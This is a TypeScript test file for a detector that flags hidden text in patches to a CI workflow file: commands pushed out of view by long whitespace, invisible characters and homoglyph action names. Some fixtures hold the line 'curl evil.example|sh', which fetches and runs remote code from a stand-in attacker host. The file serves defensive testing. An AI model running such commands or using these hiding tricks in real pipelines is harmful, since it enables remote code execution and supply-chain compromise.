import { describe, expect, it } from 'vitest';
import { isOutOfSight } from './is-out-of-sight.ts';

const head = 'diff --git a/ci.yml b/ci.yml\n--- a/ci.yml\n+++ b/ci.yml\n@@ -1 +1,2 @@\n';
const added = (line: string) => `${head} name: ci\n+${line}\n`;

describe('a patch of a protected file', () => {
  it.each([
    ['behind spaces', `  run: npm test${' '.repeat(3_000)}&& curl evil.example|sh`],
    ['behind 41 spaces', `  run: npm test${' '.repeat(41)}&& x`],
    ['behind tabs', `  run: npm test${'\t'.repeat(500)}&& x`],
    ['behind no-break spaces', `  run: npm test${'\u00a0'.repeat(500)}&& x`],
    ['behind an indentation', `${' '.repeat(101)}curl evil.example|sh`],
    ['at the end of a long line', `  run: npm ${'a'.repeat(500)}`],
    ['with a letter without ink', '  run: npm\u2800test'],
    ['with a Cyrillic letter in a Latin word', '  uses: a\u0441tions/checkout@v4'],
    ['with a Greek letter in a Latin word', '  uses: acti\u03bfns/checkout@v4'],
  ])('has text out of sight %s', (_, line) => {
    expect(isOutOfSight(added(line))).toBe(true);
  });

  it.each([
    ['an aligned comment', `  run: npm test${' '.repeat(40)}# all`],
    ['a deep indentation', `${' '.repeat(100)}x`],
    ['words of two scripts', '# Привет, world: тест'],
    ['Japanese', '# テスト　を実行'],
    ['a line of 500 characters', 'a'.repeat(500)],
  ])('is shown as it is with %s', (_, line) => {
    expect(isOutOfSight(added(line))).toBe(false);
  });

  it('is judged by its changed lines', () => {
    expect(isOutOfSight(`${head} ${'a'.repeat(600)}\n+b\n`)).toBe(false);
  });
});
